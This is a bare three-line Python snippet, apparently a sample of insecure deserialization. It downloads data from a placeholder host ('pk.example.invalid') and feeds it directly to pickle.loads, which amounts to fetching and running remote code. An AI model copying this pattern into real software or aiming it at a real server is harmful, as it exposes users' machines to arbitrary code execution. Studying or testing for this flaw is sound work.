import pickle
import urllib.request
pickle.loads(urllib.request.urlopen("http://pk.example.invalid/o").read())
